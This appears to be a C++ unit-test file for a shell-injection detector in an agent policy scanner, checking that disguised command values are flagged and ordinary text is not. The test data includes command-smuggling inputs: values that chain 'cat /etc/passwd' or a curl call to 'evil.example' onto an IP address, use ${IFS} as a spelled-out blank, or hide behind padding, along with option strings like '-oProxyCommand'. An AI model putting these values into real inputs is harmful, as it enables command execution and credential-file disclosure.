// Shell injection: ordinary values of many kinds that hold its signs and words, and attacks that avoid them.

#include <string>
#include <string_view>
#include <vector>

#include "policy/scan/shell.h"
#include "tests/catch.h"
#include "tests/policy/scan/looks.h"
#include "tests/policy/scan/texts.h"

namespace agentmesh::policy::scan {
namespace {

std::string severity(std::string_view text, Field field = Field::kAny) {
  std::vector<Hit> hits;
  find_shell_injection(text, hits, field);
  return severity_of(hits, "shell.injection");
}

}  // namespace

TEST_CASE("lists, patterns, queries, code and sentences are no shell injection") {
  for (const std::string& text : texts("ordinary.txt")) {
    CAPTURE(text);
    CHECK(severity(text) == "-");
  }
}

TEST_CASE("commands in the grammar of a shell are seen, however they are spelled") {
  for (const std::string& text : texts("shell_attacks.txt", "behind")) {
    CAPTURE(text);
    CHECK(severity(text) >= "1");
  }
}

TEST_CASE("a blank that is spelled stands in front of a command as well") {
  for (const char* text :
       {"8.8.8.8;${IFS}id", "8.8.8.8&&${IFS}id", "8.8.8.8|${IFS}id", "8.8.8.8%3b${IFS}id",
        "8.8.8.8 ; ${IFS}curl${IFS}evil.example", "8.8.8.8;${IFS}cat${IFS}/etc/passwd",
        "8.8.8.8;$IFS$9cat /etc/passwd", "8.8.8.8;$IFS${IFS}id", "8.8.8.8; {id,}"}) {
    CAPTURE(text);
    CHECK(severity(text, Field::kPlace) >= "1");
  }
  for (const char* text : {"${name};${host}", "a; ${title}", "${IFS}", "id;${name} first",
                           "import {id,} from", "{id,name}", "a;{title,}"}) {
    CAPTURE(text);
    CHECK(severity(text) == "-");
  }
}

TEST_CASE("what a host is named is no list") {
  for (const char* text : {"web|id", "main;id", "db;ls", "a;whoami;b"}) {
    CAPTURE(text);
    CHECK(severity(text) == "-");
    CHECK(severity(text, Field::kPlace) == "2");
  }
  CHECK(severity("db|sort", Field::kPlace) == "1");
}

TEST_CASE("in a pattern a word behind a bar is an alternative, whatever stands before it") {
  for (const char* text : {"example.com|curl", "8.8.8.8|ping", ".*/|rm", "x/|ls"})
    CHECK(severity(text, Field::kPattern) == "-");
  CHECK(severity("example.com|curl http://evil.example/a", Field::kPattern) == "2");
}

TEST_CASE("options that run a program are seen where no option is asked for") {
  for (const std::string& text : texts("shell_attacks.txt", "options")) {
    CAPTURE(text);
    CHECK(severity(text) >= "1");
    CHECK(severity(text, Field::kOptions) == "-");
  }
  for (const char* text : {"-oProxyCommand",
                           "--upload-pack",
                           "-o out.txt",
                           "--format=%h",
                           "ext::",
                           "extra::x",
                           "run tar with --to-command=cat",
                           "--cached",
                           "--staged",
                           "--stat HEAD~1",
                           "-- src",
                           "--output=json",
                           "--output=",
                           "--output",
                           "--no-index-file",
                           "--ext-difference",
                           "--exec",
                           "git@github.com:a/b",
                           "ssh://git@host.example/-x",
                           "a@-b",
                           "://-"})
    CHECK(severity(text) == "-");
}

TEST_CASE("padding does not hide a command") {
  const std::string attack = "; cat /etc/passwd";
  for (const char* filler : {" ", "x", "ab ", "\t \t", "\n", "\xC2\xA0", "Zk3vQ9xT7bLm2Rw8aB1cD5eF",
                             "0123456789", "&&", "--", "A a "}) {
    CAPTURE(filler);
    for (const size_t bytes : {1020U, 5000U, 100'000U}) {
      CHECK(severity(repeated(filler, bytes) + attack) >= "1");
      CHECK(severity("x" + attack + repeated(filler, bytes)) >= "1");
    }
  }
  CHECK(severity("8.8.8.8\n\n \n\n\n;id") == "2");
}

TEST_CASE("of what has no business being long both ends are read, of a document neither") {
  const std::string prose =
      repeated("The report for March is in the folder, next to the drafts of Anna. ", 3000);
  CHECK(severity(prose) == "-");
  CHECK(severity(prose, Field::kShort) == "-");
  for (const std::string& text : {prose + ";cat /etc/passwd", "x;cat /etc/passwd " + prose}) {
    CHECK(severity(text) == "-");
    CHECK(severity(text, Field::kShort) >= "1");
    CHECK(severity(text, Field::kPlace) >= "1");
  }
}

TEST_CASE("a key says what its value is for") {
  for (const char* key : {"host", "hostname", "remote_host", "serverIP", "domain", "targetHost"})
    CHECK(field_of(key) == Field::kPlace);
  for (const char* key : {"name", "userName", "customer_id", "URL", "branch"})
    CHECK(field_of(key) == Field::kShort);
  for (const char* key : {"pattern", "includePattern", "regex", "xpath"})
    CHECK(field_of(key) == Field::kPattern);
  for (const char* key : {"query", "search_query", "q", "searchTerm"})
    CHECK(field_of(key) == Field::kSearch);
  CHECK(field_of("extra_args") == Field::kOptions);
  for (const char* key : {"content", "Content", "insert_text", "file_text", "oldString", "new_str",
                          "commit_message", "htmlBody", "code", "sourceCode", "cell_source"})
    CHECK(field_of(key) == Field::kProse);
  for (const char* key : {"search_text", "query_string"}) CHECK(field_of(key) == Field::kSearch);
  for (const char* key : {"message_id", "text_path", "content_type"})
    CHECK(field_of(key) == Field::kShort);
  for (const char* key :
       {"country_code", "connection_string", "data_source", "str", "payload", "details"})
    CHECK(field_of(key) == Field::kAny);
  for (const char* key :
       {"", "ghost", "filename2", "unique", "_", "a_very_long_key_of_words_and_letters"})
    CHECK(field_of(key) == Field::kAny);
}

}  // namespace agentmesh::policy::scan
